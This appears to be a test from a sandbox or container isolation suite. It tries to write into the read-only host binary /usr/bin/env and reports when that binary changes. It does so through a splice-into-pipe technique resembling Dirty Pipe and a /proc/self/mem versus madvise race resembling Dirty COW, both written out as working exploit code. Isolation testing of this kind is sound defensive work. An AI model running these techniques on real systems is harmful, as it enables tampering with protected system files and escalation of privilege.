# writes into the pages of a file that can only be read: by mapping, by splice, by a race
from box import *
import mmap
import threading
path = "/usr/bin/env"
before = open(path, "rb").read()
fd = os.open(path, os.O_RDONLY)
must_fail("shared mapping", lambda: mmap.mmap(fd, 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_WRITE))
read, write = os.pipe()
os.write(write, bytes(65536))
os.read(read, 65536)
call((275, 76), fd, ctypes.byref(ctypes.c_longlong(0)), write, 0, 1, 0)
os.write(write, b"hostile")
private = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
address = ctypes.c_void_p(0)
going = True
def scribble():
    mem = os.open("/proc/self/mem", os.O_RDWR)
    base = int(next(line for line in open("/proc/self/maps") if line.rstrip().endswith(path)).split("-")[0], 16)
    while going:
        try:
            os.pwrite(mem, b"hostile", base)
        except OSError:
            pass
def forget():
    while going:
        private.madvise(mmap.MADV_DONTNEED)
threads = [threading.Thread(target=each) for each in (scribble, forget)]
for each in threads:
    each.start()
import time
time.sleep(0.3)
going = False
for each in threads:
    each.join()
if open(path, "rb").read() != before:
    through("a program of the host was changed")
end()
